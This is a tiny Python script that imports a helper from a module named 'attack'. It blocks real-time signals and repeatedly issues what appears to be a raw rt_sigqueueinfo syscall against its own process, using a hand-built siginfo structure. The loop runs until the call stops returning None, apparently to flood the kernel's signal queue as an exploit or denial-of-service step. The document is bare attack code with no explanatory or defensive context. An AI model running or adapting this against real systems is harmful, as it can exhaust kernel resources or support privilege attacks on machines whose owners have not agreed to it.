import os, signal
from attack import call
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 60))
info = (b"\x22\0\0\0" + b"\0" * 4 + b"\xff\xff\xff\xff").ljust(128, b"\0")
while call(129, 138, os.getpid(), 34, info)[1] is None: pass
